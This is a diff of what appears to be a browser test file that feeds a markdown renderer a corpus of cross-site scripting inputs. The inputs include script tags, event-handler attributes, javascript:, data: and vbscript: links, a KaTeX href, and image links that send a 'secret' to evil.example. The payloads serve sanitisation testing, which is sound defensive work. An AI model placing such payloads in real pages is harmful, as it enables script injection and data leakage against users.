@@ -7,13 +7,13 @@ from playwright.sync_api import expect
 
 CORPUS = {
     "script tag": "<script>window.__pwned = 'script'</script>",
-    "onerror image": '<img src=x onerror="window.__pwned = \'onerror\'">',
-    "svg onload": '<svg onload="window.__pwned = \'svg\'"></svg>',
-    "iframe": '<iframe src="javascript:parent.__pwned = \'iframe\'"></iframe>',
+    "onerror image": "<img src=x onerror=\"window.__pwned = 'onerror'\">",
+    "svg onload": "<svg onload=\"window.__pwned = 'svg'\"></svg>",
+    "iframe": "<iframe src=\"javascript:parent.__pwned = 'iframe'\"></iframe>",
     "javascript link": "[click me](javascript:window.__pwned='link')",
     "data link": "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     "vbscript link": "[vb](vbscript:msgbox(1))",
-    "raw anchor": '<a href="javascript:window.__pwned=\'anchor\'">raw anchor</a>',
+    "raw anchor": "<a href=\"javascript:window.__pwned='anchor'\">raw anchor</a>",
     "external image": "![tracker](https://evil.example/leak.png?secret=42)",
     "reference image": "![ref][t]\n\n[t]: https://evil.example/ref.png",
     "katex href": r"$\href{javascript:window.__pwned='katex'}{click}$",
